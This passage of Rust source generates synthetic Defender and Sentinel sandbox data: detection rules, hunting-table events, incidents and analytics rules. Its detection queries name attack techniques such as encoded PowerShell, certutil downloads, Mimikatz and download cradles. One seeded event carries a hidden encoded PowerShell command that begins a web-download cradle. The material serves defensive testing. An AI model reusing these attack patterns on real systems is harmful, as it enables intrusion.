    .collect();

    // Detection rules (Graph beta), in the shape of the beta CSDL's `detectionRule` without the
    // properties removed on 2026-10-01. Ids are client-provided strings (the create page's
    // example is `office-encoded-powershell`); one keeps the digits of older rules.
    let rng = &mut streams.of("detection rules");
    let mut detection_rules = Vec::new();
    let legacy_id = 100 + rng.random_range(0..800u64);
    for (id, name, query, frequency, severity, status, tactic, technique) in [
        (
            "encoded-powershell".to_string(),
            "Encoded PowerShell",
            "DeviceProcessEvents | where FileName =~ 'powershell.exe' and ProcessCommandLine has '-enc' | project Timestamp, DeviceId, DeviceName, ReportId, ProcessCommandLine",
            "PT1H",
            "medium",
            "enabled",
            "Execution",
            ("T1059", Some("T1059.001")),
        ),
        (
            "certutil-download".to_string(),
            "Certutil download",
            "DeviceProcessEvents | where FileName =~ 'certutil.exe' and ProcessCommandLine has 'urlcache' | project Timestamp, DeviceId, DeviceName, ReportId",
            "PT3H",
            "medium",
            "enabled",
            "CommandAndControl",
            ("T1105", None),
        ),
        (
            "known-c2-connection".to_string(),
            "Connection to known C2",
            "DeviceNetworkEvents | where RemoteIP in ('203.0.113.50', '203.0.113.77') | project Timestamp, DeviceId, DeviceName, ReportId, RemoteIP",
            "PT1H",
            "high",
            "autoDisabled",
            "CommandAndControl",
            ("T1071", None),
        ),
        (
            legacy_id.to_string(),
            "Legacy rule - disabled",
            "DeviceLogonEvents | where ActionType == 'LogonFailed' | summarize count() by DeviceId | where count_ > 50",
            "P1D",
            "low",
            "disabled",
            "CredentialAccess",
            ("T1110", None),
        ),
    ] {
        let created = ago(rng, now, Duration::days(10), Duration::days(120));
        let (technique, sub) = technique;
        detection_rules.push(json!({
            "id": id,
            "displayName": name,
            "description": format!("Custom detection: {name}"),
            "status": status,
            "createdBy": users[1].upn,
            "createdDateTime": fmt_time(created),
            "lastModifiedDateTime": fmt_time(created + Duration::days(1)),
            "lastModifiedBy": users[1].upn,
            "queryCondition": {"queryText": query},
            "schedule": {"frequency": frequency},
            "detectionAction": {
                "alertTemplate": {
                    "title": name,
                    "description": format!("Custom detection: {name}"),
                    "severity": severity,
                    "recommendedActions": Value::Null,
                    "tactics": [{"tactic": tactic, "techniques": [match sub {
                        Some(sub) => json!({"technique": technique, "subTechniques": [sub]}),
                        None => json!({"technique": technique}),
                    }]}],
                    "entityMappings": {"hosts": [{"deviceIdColumn": "DeviceId", "nameColumn": "DeviceName"}]},
                },
                "organizationalScope": Value::Null,
                "automatedActions": Value::Null,
            },
        }));
    }

    // Workspaces.
    let workspaces = spec
        .workspaces
        .iter()
        .enumerate()
        .map(|(wi, (rg, name, location))| {
            let rng = &mut streams.of(&format!("workspace {name}"));
            let public = SandboxWorkspace {
                subscription_id: guid_from(rng),
                resource_group: (*rg).into(),
                name: (*name).into(),
                customer_id: guid_from(rng),
            };
            workspace(
                rng,
                now,
                spec,
                public,
                location,
                &machines,
                &users,
                stale_first_workspace && wi == 0,
            )
        })
        .collect::<Vec<_>>();

    TenantData {
        public: SandboxTenant {
            tenant_id: spec.id.into(),
            display_name: spec.name.into(),
            workspaces: workspaces.iter().map(|w| w.public.clone()).collect(),
        },
        machines,
        logon_users,
        actions,
        alerts,
        indicators,
        next_indicator_id,
        library,
        files,
        hunting,
        graph_incidents,
        detection_rules,
        workspaces,
        arm_operations: Vec::new(),
    }
}

fn s(v: impl Into<String>) -> K {
    K::String(v.into())
}

fn hunting_tables(
    rng: &mut StdRng,
    now: OffsetDateTime,
    machines: &[Machine],
    users: &[User],
    spec: &TenantSpec,
    files: &[FileInfo],
    alerts: &[Alert],
) -> Database {
    let onboarded: Vec<&Machine> = machines
        .iter()
        .filter(|m| m.onboarding_status == "Onboarded")
        .collect();
    let windows: Vec<&Machine> = onboarded
        .iter()
        .copied()
        .filter(|m| m.os_platform.starts_with("Windows"))
        .collect();
    let report_id = |rng: &mut StdRng| K::Long(rng.random_range(1000..9_999_999));
    let mut db = Database::default();

    let mut info = Table::new(
        "DeviceInfo",
        vec![
            Column::new("Timestamp", ColType::DateTime),
            Column::new("DeviceId", ColType::String),
            Column::new("DeviceName", ColType::String),
            Column::new("OSPlatform", ColType::String),
            Column::new("OSVersion", ColType::String),
            Column::new("OSBuild", ColType::Long),
            Column::new("PublicIP", ColType::String),
            Column::new("MachineGroup", ColType::String),
            Column::new("OnboardingStatus", ColType::String),
            Column::new("DeviceType", ColType::String),
            Column::new("SensorHealthState", ColType::String),
            Column::new("ExposureLevel", ColType::String),
            Column::new("IsAzureADJoined", ColType::Bool),
            Column::new("ReportId", ColType::Long),
        ],
    );
    for m in machines {
        for days in [0i64, 3] {
            let ts = (m.last_seen - Duration::days(days)).max(now - Duration::days(7));
            info.push_named(vec![
                ("Timestamp", K::DateTime(ts)),
                ("DeviceId", s(&m.id)),
                ("DeviceName", s(&m.computer_dns_name)),
                ("OSPlatform", s(&m.os_platform)),
                (
                    "OSVersion",
                    m.os_version.clone().map(K::String).unwrap_or(K::Null),
                ),
                ("OSBuild", m.os_build.map(K::Long).unwrap_or(K::Null)),
                ("PublicIP", s(&m.last_external_ip_address)),
                ("MachineGroup", s(&m.rbac_group_name)),
                ("OnboardingStatus", s(&m.onboarding_status)),
                (
                    "DeviceType",
                    s(
                        if m.computer_dns_name.starts_with("srv")
                            || m.computer_dns_name.starts_with("lnx")
                        {
                            "Server"
                        } else {
                            "Workstation"
                        },
                    ),
                ),
                ("SensorHealthState", s(&m.health_status)),
                ("ExposureLevel", s(&m.exposure_level)),
                ("IsAzureADJoined", K::Bool(m.is_aad_joined)),
                ("ReportId", report_id(rng)),
            ]);
        }
    }
    db.insert(info);

    let file_of = |name: &str| files.iter().find(|f| f.file_name == name);
    let mut procs = Table::new(
        "DeviceProcessEvents",
        vec![
            Column::new("Timestamp", ColType::DateTime),
            Column::new("DeviceId", ColType::String),
            Column::new("DeviceName", ColType::String),
            Column::new("ActionType", ColType::String),
            Column::new("FileName", ColType::String),
            Column::new("FolderPath", ColType::String),
            Column::new("SHA1", ColType::String),
            Column::new("SHA256", ColType::String),
            Column::new("MD5", ColType::String),
            Column::new("ProcessCommandLine", ColType::String),
            Column::new("ProcessId", ColType::Long),
            Column::new("AccountDomain", ColType::String),
            Column::new("AccountName", ColType::String),
            Column::new("InitiatingProcessFileName", ColType::String),
            Column::new("InitiatingProcessCommandLine", ColType::String),
            Column::new("InitiatingProcessAccountName", ColType::String),
            Column::new("ReportId", ColType::Long),
        ],
    );
    let benign: Vec<&Proc> = PROCS
        .iter()
        .filter(|p| !p.malicious && p.name != "certutil.exe")
        .collect();
    for i in 0..230 {
        let m = *pick(rng, &windows);
        let u = &users[rng.random_range(0..users.len())];
        // Roughly one in twelve events is suspicious.
        let (p, cmd): (&Proc, String) = if i % 12 == 0 {
            let p = &PROCS[*pick(rng, &[5usize, 9, 10, 12, 13])];
            let cmd = if p.name == "powershell.exe" {
                "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".to_string()
            } else {
                p.cmd.to_string()
            };
            (p, cmd)
        } else {
            let p = *pick(rng, &benign);
            (p, p.cmd.to_string())
        };
        let f = file_of(p.name);
        let parent = if p.name == "svchost.exe" {
            "services.exe"
        } else {
            *pick(
                rng,
                &["explorer.exe", "cmd.exe", "svchost.exe", "OUTLOOK.EXE"],
            )
        };
        procs.push_named(vec![
            (
                "Timestamp",
                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
            ),
            ("DeviceId", s(&m.id)),
            ("DeviceName", s(&m.computer_dns_name)),
            ("ActionType", s("ProcessCreated")),
            (
                "FileName",
                s(if p.name == "wacatac.dll" {
                    "rundll32.exe"
                } else {
                    p.name
                }),
            ),
            ("FolderPath", s(format!("{}\\{}", p.folder, p.name))),
            ("SHA1", f.map(|f| s(&f.sha1)).unwrap_or(K::Null)),
            ("SHA256", f.map(|f| s(&f.sha256)).unwrap_or(K::Null)),
            ("MD5", f.map(|f| s(&f.md5)).unwrap_or(K::Null)),
            ("ProcessCommandLine", s(cmd)),
            ("ProcessId", K::Long(rng.random_range(400..30000))),
            ("AccountDomain", s(spec.netbios.to_lowercase())),
            ("AccountName", s(&u.account)),
            ("InitiatingProcessFileName", s(parent)),
            ("InitiatingProcessCommandLine", s(parent)),
            ("InitiatingProcessAccountName", s(&u.account)),
            ("ReportId", report_id(rng)),
        ]);
    }
    db.insert(procs);

    let mut net = Table::new(
        "DeviceNetworkEvents",
        vec![
            Column::new("Timestamp", ColType::DateTime),
            Column::new("DeviceId", ColType::String),
            Column::new("DeviceName", ColType::String),
            Column::new("ActionType", ColType::String),
            Column::new("RemoteIP", ColType::String),
            Column::new("RemotePort", ColType::Long),
            Column::new("RemoteUrl", ColType::String),
            Column::new("LocalIP", ColType::String),
            Column::new("LocalPort", ColType::Long),
            Column::new("Protocol", ColType::String),
            Column::new("InitiatingProcessFileName", ColType::String),
            Column::new("InitiatingProcessAccountName", ColType::String),
            Column::new("ReportId", ColType::Long),
        ],
    );
    for i in 0..170 {
        let m = *pick(rng, &onboarded);
        let (ip, url, port) = if i % 14 == 0 {
            *pick(rng, MALICIOUS_REMOTE)
        } else {
            *pick(rng, BENIGN_REMOTE)
        };
        let action = if rng.random_bool(0.9) {
            "ConnectionSuccess"
        } else {
            "ConnectionFailed"
        };
        let proc_name = if i % 14 == 0 {
            *pick(rng, &["svch0st.exe", "certutil.exe", "msedge.exe"])
        } else {
            *pick(
                rng,
                &[
                    "chrome.exe",
                    "msedge.exe",
                    "ms-teams.exe",
                    "OUTLOOK.EXE",
                    "svchost.exe",
                ],
            )
        };
        net.push_named(vec![
            (
                "Timestamp",
                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
            ),
            ("DeviceId", s(&m.id)),
            ("DeviceName", s(&m.computer_dns_name)),
            ("ActionType", s(action)),
            ("RemoteIP", s(ip)),
            ("RemotePort", K::Long(port)),
            ("RemoteUrl", s(url)),
            ("LocalIP", s(&m.last_ip_address)),
            ("LocalPort", K::Long(rng.random_range(49152..65535))),
            ("Protocol", s("Tcp")),
            ("InitiatingProcessFileName", s(proc_name)),
            (
                "InitiatingProcessAccountName",
                s(&users[rng.random_range(0..users.len())].account),
            ),
            ("ReportId", report_id(rng)),
        ]);
    }
    db.insert(net);

    let mut logons = Table::new(
        "DeviceLogonEvents",
        vec![
            Column::new("Timestamp", ColType::DateTime),
            Column::new("DeviceId", ColType::String),
            Column::new("DeviceName", ColType::String),
            Column::new("ActionType", ColType::String),
            Column::new("LogonType", ColType::String),
            Column::new("AccountDomain", ColType::String),
            Column::new("AccountName", ColType::String),
            Column::new("AccountSid", ColType::String),
            Column::new("RemoteIP", ColType::String),
            Column::new("RemoteDeviceName", ColType::String),
            Column::new("FailureReason", ColType::String),
            Column::new("IsLocalAdmin", ColType::Bool),
            Column::new("ReportId", ColType::Long),
        ],
    );
    for _ in 0..130 {
        let m = *pick(rng, &windows);
        let u = &users[rng.random_range(0..users.len())];
        let failed = rng.random_bool(0.12);
        logons.push_named(vec![
            (
                "Timestamp",
                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
            ),
            ("DeviceId", s(&m.id)),
            ("DeviceName", s(&m.computer_dns_name)),
            (
                "ActionType",
                s(if failed {
                    "LogonFailed"
                } else {
                    "LogonSuccess"
                }),
            ),
            (
                "LogonType",
                s(*pick(
                    rng,
                    &["Interactive", "RemoteInteractive", "Network", "Unlock"],
                )),
            ),
            ("AccountDomain", s(spec.netbios.to_lowercase())),
            ("AccountName", s(&u.account)),
            ("AccountSid", s(&u.sid)),
            (
                "RemoteIP",
                s(format!(
                    "10.{}.{}.{}",
                    spec.subnet,
                    rng.random_range(1..8),
                    rng.random_range(10..250)
                )),
            ),
            ("RemoteDeviceName", K::Null),
            (
                "FailureReason",
                if failed {
                    s("InvalidUserNameOrPassword")
                } else {
                    K::Null
                },
            ),
            ("IsLocalAdmin", K::Bool(u.admin)),
            ("ReportId", report_id(rng)),
        ]);
    }
    // A brute-force burst against a server from a malicious address.
    if let Some(target) = windows
        .iter()
        .find(|m| m.computer_dns_name.starts_with("srv"))
    {
        let start = ago(rng, now, Duration::hours(6), Duration::days(2));
        for k in 0..14 {
            logons.push_named(vec![
                ("Timestamp", K::DateTime(start + Duration::seconds(k * 7))),
                ("DeviceId", s(&target.id)),
                ("DeviceName", s(&target.computer_dns_name)),
                ("ActionType", s("LogonFailed")),
                ("LogonType", s("Network")),
                ("AccountDomain", s(spec.netbios.to_lowercase())),
                ("AccountName", s("administrator")),
                ("AccountSid", K::Null),
                ("RemoteIP", s(MALICIOUS_REMOTE[0].0)),
                ("RemoteDeviceName", K::Null),
                ("FailureReason", s("InvalidUserNameOrPassword")),
                ("IsLocalAdmin", K::Bool(false)),
                ("ReportId", report_id(rng)),
            ]);
        }
    }
    db.insert(logons);

    let mut fevents = Table::new(
        "DeviceFileEvents",
        vec![
            Column::new("Timestamp", ColType::DateTime),
            Column::new("DeviceId", ColType::String),
            Column::new("DeviceName", ColType::String),
            Column::new("ActionType", ColType::String),
            Column::new("FileName", ColType::String),
            Column::new("FolderPath", ColType::String),
            Column::new("SHA1", ColType::String),
            Column::new("SHA256", ColType::String),
            Column::new("MD5", ColType::String),
            Column::new("FileSize", ColType::Long),
            Column::new("InitiatingProcessFileName", ColType::String),
            Column::new("InitiatingProcessAccountName", ColType::String),
            Column::new("ReportId", ColType::Long),
        ],
    );
    for i in 0..110 {
        let m = *pick(rng, &windows);
        let p = if i % 9 == 0 {
            &PROCS[*pick(rng, &[10usize, 11, 12, 13])]
        } else {
            &PROCS[*pick(rng, &[0usize, 1, 3, 4, 7])]
        };
        let f = file_of(p.name);
        fevents.push_named(vec![
            (
                "Timestamp",
                K::DateTime(ago(rng, now, Duration::minutes(1), Duration::days(7))),
            ),
            ("DeviceId", s(&m.id)),
            ("DeviceName", s(&m.computer_dns_name)),
            (
                "ActionType",
                s(*pick(
                    rng,
                    &["FileCreated", "FileModified", "FileRenamed", "FileDeleted"],
                )),
            ),
            ("FileName", s(p.name)),
            ("FolderPath", s(format!("{}\\{}", p.folder, p.name))),
            ("SHA1", f.map(|f| s(&f.sha1)).unwrap_or(K::Null)),
            ("SHA256", f.map(|f| s(&f.sha256)).unwrap_or(K::Null)),
            ("MD5", f.map(|f| s(&f.md5)).unwrap_or(K::Null)),
            ("FileSize", f.map(|f| K::Long(f.size)).unwrap_or(K::Null)),
            (
                "InitiatingProcessFileName",
                s(*pick(
                    rng,
                    &[
                        "explorer.exe",
                        "msedge.exe",
                        "OUTLOOK.EXE",
                        "powershell.exe",
                    ],
                )),
            ),
            (
                "InitiatingProcessAccountName",
                s(&users[rng.random_range(0..users.len())].account),
            ),
            ("ReportId", report_id(rng)),
        ]);
    }
    db.insert(fevents);

    let mut ainfo = Table::new(
        "AlertInfo",
        vec![
            Column::new("Timestamp", ColType::DateTime),
            Column::new("AlertId", ColType::String),
            Column::new("Title", ColType::String),
            Column::new("Category", ColType::String),
            Column::new("Severity", ColType::String),
            Column::new("ServiceSource", ColType::String),
            Column::new("DetectionSource", ColType::String),
            Column::new("AttackTechniques", ColType::String),
        ],
    );
    let mut aevidence = Table::new(
        "AlertEvidence",
        vec![
            Column::new("Timestamp", ColType::DateTime),
            Column::new("AlertId", ColType::String),
            Column::new("Title", ColType::String),
            Column::new("EntityType", ColType::String),
            Column::new("EvidenceRole", ColType::String),
            Column::new("DeviceId", ColType::String),
            Column::new("DeviceName", ColType::String),
            Column::new("SHA1", ColType::String),
            Column::new("RemoteIP", ColType::String),
            Column::new("RemoteUrl", ColType::String),
        ],
    );
    for a in alerts {
        ainfo.push_named(vec![
            ("Timestamp", K::DateTime(a.alert_creation_time)),
            ("AlertId", s(&a.id)),
            ("Title", s(&a.title)),
            ("Category", s(&a.category)),
            ("Severity", s(&a.severity)),
            ("ServiceSource", s("Microsoft Defender for Endpoint")),
            (
                "DetectionSource",
                s(if a.detection_source == "WindowsDefenderAv" {
                    "Antivirus"
                } else {
                    "EDR"
                }),
            ),
            (
                "AttackTechniques",
                s(format!("[\"{}\"]", a.mitre_techniques.join("\",\""))),
            ),
        ]);
        aevidence.push_named(vec![
            ("Timestamp", K::DateTime(a.alert_creation_time)),
            ("AlertId", s(&a.id)),
            ("Title", s(&a.title)),
            ("EntityType", s("Machine")),
            ("EvidenceRole", s("Impacted")),
            ("DeviceId", s(&a.machine_id)),
            ("DeviceName", s(&a.computer_dns_name)),
            (
                "SHA1",
                a.related_sha1.clone().map(K::String).unwrap_or(K::Null),
            ),
            (
                "RemoteIP",
                a.related_ip.clone().map(K::String).unwrap_or(K::Null),
            ),
            (
                "RemoteUrl",
                a.related_domain.clone().map(K::String).unwrap_or(K::Null),
            ),
        ]);
    }
    db.insert(ainfo);
    db.insert(aevidence);
    db
}

fn graph_incidents(
    rng: &mut StdRng,
    now: OffsetDateTime,
    spec: &TenantSpec,
    alerts: &[Alert],
    groups: &[(i64, Vec<usize>)],
    users: &[User],
) -> Vec<Value> {
    let rank = |s: &str| match s {
        "High" => 3,
        "Medium" => 2,
        "Low" => 1,
        _ => 0,
    };
    groups
        .iter()
        .map(|(id, idx)| {
            let group: Vec<&Alert> = idx.iter().map(|i| &alerts[*i]).collect();
            let first = group[0];
            let severity = group.iter().map(|a| a.severity.as_str()).max_by_key(|s| rank(s)).unwrap_or("Informational").to_lowercase();
            let status = match first.status.as_str() {
                "Resolved" => "resolved",
                "InProgress" => "inProgress",
                _ => "active",
            };
            let categories: Vec<String> = {
                let mut c: Vec<String> = group.iter().map(|a| a.category.clone()).collect();
                c.dedup();
                c
            };
            let display = if group.len() > 1 {
                format!("Multi-stage incident involving {} on one endpoint", categories.join(" & "))
            } else {
                format!("{} on one endpoint", first.title)
            };
            let created = group.iter().map(|a| a.alert_creation_time).min().unwrap_or(now);
            let updated = group.iter().map(|a| a.last_update_time).max().unwrap_or(now);
            json!({
                "id": id.to_string(),
                "tenantId": spec.id,
                "status": status,
                "incidentWebUrl": format!("https://security.microsoft.com/incidents/{id}?tid={}", spec.id),
                "redirectIncidentId": Value::Null,
                "displayName": display,
                "createdDateTime": fmt_time(created),
                "lastUpdateDateTime": fmt_time(updated),
                "assignedTo": first.assigned_to,
                "classification": if status == "resolved" { "truePositive" } else { "unknown" },
                "determination": if status == "resolved" { "malware" } else { "unknown" },
                "severity": severity,
                "customTags": if rng.random_bool(0.3) { vec!["sandbox"] } else { Vec::new() },
                "systemTags": [],
                "comments": [],
                "summary": Value::Null,
                "description": Value::Null,
                "resolvingComment": if status == "resolved" { Value::String("Remediated by the SOC".into()) } else { Value::Null },
                "lastModifiedBy": users.first().map(|u| u.upn.clone()).unwrap_or_default(),
            })
        })
        .collect()
}

#[allow(clippy::too_many_arguments)]
fn workspace(
    rng: &mut StdRng,
    now: OffsetDateTime,
    spec: &TenantSpec,
    public: SandboxWorkspace,
    location: &str,
    machines: &[Machine],
    users: &[User],
    stale: bool,
) -> WorkspaceData {
    let ws_id = format!(
        "/subscriptions/{}/resourceGroups/{}/providers/Microsoft.OperationalInsights/workspaces/{}",
        public.subscription_id, public.resource_group, public.name
    );
    let si = format!("{ws_id}/providers/Microsoft.SecurityInsights");
    let etag = |rng: &mut StdRng| format!("\"{}\"", guid_from(rng));

    // Analytics rules.
    let rule_defs: &[(&str, &str, &str, &str)] = &[
        (
            "Scheduled",
            "Brute force attack against a Windows server",
            "Medium",
            "SecurityEvent | where EventID == 4625 | summarize Failures = count() by Computer, IpAddress, bin(TimeGenerated, 10m) | where Failures > 10",
        ),
        (
            "Scheduled",
            "Sign-ins from a suspicious IP address",
            "High",
            "SigninLogs | where IPAddress in ('203.0.113.50', '203.0.113.77') | project TimeGenerated, UserPrincipalName, IPAddress, AppDisplayName",
        ),
        (
            "Scheduled",
            "Mass role assignment changes",
            "Medium",
            "AzureActivity | where OperationNameValue =~ 'MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE' | summarize count() by Caller, bin(TimeGenerated, 1h) | where count_ > 5",
        ),
        (
            "Scheduled",
            "Firewall denies to known C2",
            "High",
            "CommonSecurityLog | where DeviceAction == 'deny' and DestinationIP in ('203.0.113.50', '198.51.100.23') | summarize count() by SourceIP",
        ),
        (
            "Scheduled",
            "New local administrator",
            "Low",
            "SecurityEvent | where EventID == 4732 | project TimeGenerated, Computer, Account",
        ),
        (
            "Scheduled",
            "Failed sign-ins spike",
            "Low",
            "SigninLogs | where ResultType != '0' | summarize count() by UserPrincipalName, bin(TimeGenerated, 1h) | where count_ > 20",
        ),
        (
            "Scheduled",
            "Rare process on a server",
            "Informational",
            "SecurityEvent | where EventID == 4688 | summarize count() by NewProcessName | where count_ < 2",
        ),
        (
            "Scheduled",
            "Agent heartbeat missing",
            "Low",
            "Heartbeat | summarize LastHeartbeat = max(TimeGenerated) by Computer | where LastHeartbeat < ago(1h)",
        ),
        (
            "Scheduled",
            "Resource group deleted",
            "Medium",
            "AzureActivity | where OperationNameValue endswith 'RESOURCEGROUPS/DELETE' and ActivityStatusValue == 'Success'",
        ),
        (
            "Scheduled",
            "Privileged sign-in from a new country",
            "High",
            "SigninLogs | where UserPrincipalName startswith 'admin' | summarize dcount(Location) by UserPrincipalName",
        ),
        (
            "Scheduled",
            "Outbound SMB to the internet",
            "Medium",
            "CommonSecurityLog | where DestinationPort == 445 and DeviceAction == 'allow'",
        ),
        (
            "Scheduled",
            "Security log cleared",
            "High",
            "SecurityEvent | where EventID == 1102",
        ),
        (
            "NRT",
            "NRT Mimikatz command line",
            "High",
            "SecurityEvent | where EventID == 4688 and CommandLine has 'sekurlsa'",
        ),
        (
            "NRT",
            "NRT Sign-in by a disabled account",
            "Medium",
            "SigninLogs | where ResultType == '50057'",
        ),
        (
            "NRT",
            "NRT Audit policy changed",
            "Low",
            "SecurityEvent | where EventID == 4719",
        ),
        ("Fusion", "Advanced Multistage Attack Detection", "High", ""),
        (
            "MicrosoftSecurityIncidentCreation",
            "Create incidents based on Microsoft Defender for Endpoint alerts",
            "Medium",
            "Microsoft Defender Advanced Threat Protection",
        ),
        (
            "MicrosoftSecurityIncidentCreation",
            "Create incidents based on Microsoft Entra ID Protection alerts",
            "Medium",
            "Azure Active Directory Identity Protection",
        ),
        (
            "Scheduled",
            "Suspicious PowerShell download cradle",
            "Medium",
            "SecurityEvent | where EventID == 4688 and CommandLine has 'DownloadString'",
        ),
        (
            "Scheduled",
            "Excessive account lockouts",
            "Low",
            "SecurityEvent | where EventID == 4740 | summarize count() by TargetAccount",
        ),
    ];
    let tactics = [
        "InitialAccess",
        "Execution",
        "Persistence",
        "CredentialAccess",
        "Discovery",
        "LateralMovement",
        "CommandAndControl",
        "Impact",
    ];
    let mut alert_rules = Vec::new();
    for (i, (kind, name, severity, query)) in rule_defs.iter().enumerate() {
        let rule_id = guid_from(rng);
        // A few rules are disabled, as in any real workspace.
        let enabled = !(i == 6 || i == 10 || i == 14);
        let modified = fmt_time(ago(rng, now, Duration::days(1), Duration::days(180)));
        let tactic = *pick(rng, &tactics);
        let properties = match *kind {
            "Scheduled" => json!({
                "displayName": name,
                "description": format!("{name}."),
                "severity": severity,
                "enabled": enabled,
                "query": query,
                "queryFrequency": "PT1H",
                "queryPeriod": "PT1H",
                "triggerOperator": "GreaterThan",
                "triggerThreshold": 0,
                "suppressionDuration": "PT5H",
                "suppressionEnabled": false,
                "tactics": [tactic],
                "techniques": [],
                "incidentConfiguration": {
                    "createIncident": true,
                    "groupingConfiguration": {"enabled": false, "reopenClosedIncident": false, "lookbackDuration": "PT5H", "matchingMethod": "AllEntities", "groupByEntities": [], "groupByAlertDetails": [], "groupByCustomDetails": []}
                },
                "eventGroupingSettings": {"aggregationKind": "SingleAlert"},
                "lastModifiedUtc": modified,
            }),
            "NRT" => json!({
                "displayName": name,
                "description": format!("{name}."),
                "severity": severity,
                "enabled": enabled,
                "query": query,
                "suppressionDuration": "PT5H",
                "suppressionEnabled": false,
                "tactics": [tactic],
                "techniques": [],
                "incidentConfiguration": {"createIncident": true, "groupingConfiguration": {"enabled": false, "reopenClosedIncident": false, "lookbackDuration": "PT5H", "matchingMethod": "AllEntities"}},
                "eventGroupingSettings": {"aggregationKind": "SingleAlert"},
                "lastModifiedUtc": modified,
            }),
            "Fusion" => json!({
                "displayName": name,
                "description": crate::content::FUSION_DESCRIPTION,
                "severity": severity,
                "enabled": enabled,
                "alertRuleTemplateName": crate::content::FUSION_TEMPLATE,
                "tactics": crate::content::FUSION_TACTICS,
                "techniques": [],
                "lastModifiedUtc": modified,
            }),
            // `MicrosoftSecurityIncidentCreationAlertRuleProperties` members are not
            // `x-nullable`: unset ones are left out.
            _ => json!({
                "displayName": name,
                "enabled": enabled,
                "productFilter": query,
                "severitiesFilter": ["High", "Medium"],
                "lastModifiedUtc": modified,
            }),
        };
        alert_rules.push(json!({
            "id": format!("{si}/alertRules/{rule_id}"),
            "name": rule_id,
            "type": "Microsoft.SecurityInsights/alertRules",
            "kind": kind,
            "etag": etag(rng),
            "properties": properties,
        }));
    }

    // Incidents.
    let mut incidents = Vec::new();
    let mut incident_comments = HashMap::new();
    let titles = [
        "Brute force attack against a Windows server",
        "Sign-ins from a suspicious IP address",
        "Firewall denies to known C2",
        "Mass role assignment changes",
        "Multi-stage incident involving Execution & Credential access",
        "Suspicious PowerShell download cradle",
        "Failed sign-ins spike",
        "New local administrator",
    ];
    let n_incidents = 30;
    let mut number = 1 + rng.random_range(0..400);
    for _ in 0..n_incidents {
        let name = guid_from(rng);
        number += rng.random_range(1..5);
        let created = ago(rng, now, Duration::minutes(10), Duration::days(14));
        let modified = created + Duration::minutes(rng.random_range(0..600)).min(now - created);
        let status = *pick(rng, &["New", "New", "Active", "Closed"]);
        let severity = *pick(rng, &["High", "Medium", "Medium", "Low", "Informational"]);
        let owner = if status == "New" {
            None
        } else {
            Some(&users[rng.random_range(0..users.len())])
        };
        let rule = &alert_rules[rng.random_range(0..alert_rules.len())];
        let mut properties = json!({
            "title": *pick(rng, &titles),
            "description": "",
            "severity": severity,
            "status": status,
            "incidentNumber": number,
            "createdTimeUtc": fmt_time(created),
            "lastModifiedTimeUtc": fmt_time(modified),
            "firstActivityTimeUtc": fmt_time(created - Duration::minutes(rng.random_range(5..120))),
            "lastActivityTimeUtc": fmt_time(created - Duration::minutes(rng.random_range(0..5))),
            "owner": match owner {
                Some(u) => json!({"objectId": u.object_id, "email": u.upn, "assignedTo": u.display, "userPrincipalName": u.upn, "ownerType": "User"}),
                // `IncidentOwnerInfo` members are not `x-nullable`: an unassigned owner has none.
                None => json!({"ownerType": "Unknown"}),
            },
            "labels": [],
            "incidentUrl": format!("https://portal.azure.com/#asset/Microsoft_Azure_Security_Insights/Incident{}/incidents/{name}", si),
            "providerName": "Azure Sentinel",
            "providerIncidentId": number.to_string(),
            "additionalData": {
                "alertsCount": rng.random_range(1..6),
                "bookmarksCount": 0,
                "commentsCount": 0,
                "alertProductNames": ["Azure Sentinel"],
                "tactics": [*pick(rng, &tactics)],
            },
            "relatedAnalyticRuleIds": [rule["id"].clone()],
        });
        if status == "Closed" {
            properties["classification"] = json!(*pick(
                rng,
                &["TruePositive", "BenignPositive", "FalsePositive"]
            ));
            properties["classificationReason"] = match properties["classification"].as_str() {
                Some("TruePositive") => json!("SuspiciousActivity"),
                Some("BenignPositive") => json!("SuspiciousButExpected"),
                _ => json!("IncorrectAlertLogic"),
            };
            properties["classificationComment"] = json!("Closed by the SOC");
        }
        let mut comments = Vec::new();
        if status != "New" && rng.random_bool(0.5) {
            let author = owner.unwrap_or(&users[0]);
            let cid = guid_from(rng);
            let at = fmt_time(modified);
            comments.push(json!({
                "id": format!("{si}/incidents/{name}/comments/{cid}"),
                "name": cid,
                "type": "Microsoft.SecurityInsights/Incidents/Comments",
                "etag": etag(rng),
                "properties": {
                    "message": "Triage started; checking the affected hosts.",
                    "createdTimeUtc": at,
                    "lastModifiedTimeUtc": at,
                    "author": {"objectId": author.object_id, "email": author.upn, "name": author.display, "userPrincipalName": author.upn},
                },
            }));
            properties["additionalData"]["commentsCount"] = json!(1);
        }
        incident_comments.insert(name.clone(), comments);
        incidents.push(json!({
            "id": format!("{si}/incidents/{name}"),
            "name": name,
            "type": "Microsoft.SecurityInsights/Incidents",
            "etag": etag(rng),
            "properties": properties,
        }));
    }

    let mut logs = log_tables(rng, now, spec, &public, machines, users, stale);
    logs.insert(crate::content::sentinel_health(
        now,
        &public.customer_id,
        &alert_rules,
    ));
    let people: Vec<crate::content::Person> = users
        .iter()
        .map(|u| crate::content::Person {
            upn: u.upn.clone(),
            display: u.display.clone(),
            object_id: u.object_id.clone(),
        })
        .collect();
    let hosts: Vec<crate::content::Host> = machines
        .iter()
        .filter(|m| m.onboarding_status == "Onboarded")
        .map(|m| crate::content::Host {
            dns_name: m.computer_dns_name.clone(),
            ip: m.last_ip_address.clone(),
            server: m.os_platform.starts_with("WindowsServer"),
        })
        .collect();
    let scope = crate::content::WorkspaceScope {
        workspace_id: &ws_id,
        customer_id: &public.customer_id,
        subscription_id: &public.subscription_id,
        location,
    };
    let content = crate::content::generate(&scope, now, &people, &hosts, &alert_rules, &incidents);
    WorkspaceData {
        public,
        location: location.into(),
        retention_in_days: if stale { 90 } else { 30 },
        created: now - Duration::days(400),
        alert_rules,
        incidents,
        incident_comments,
        logs,
        table_settings: HashMap::new(),
        content,
    }
}

fn log_tables(
    rng: &mut StdRng,
    now: OffsetDateTime,
    spec: &TenantSpec,
    ws: &SandboxWorkspace,
    machines: &[Machine],
    users: &[User],
    stale: bool,
) -> Database {
    let mut db = Database::default();
    let tenant_col = || s(&ws.customer_id);
    let servers: Vec<&Machine> = machines
        .iter()
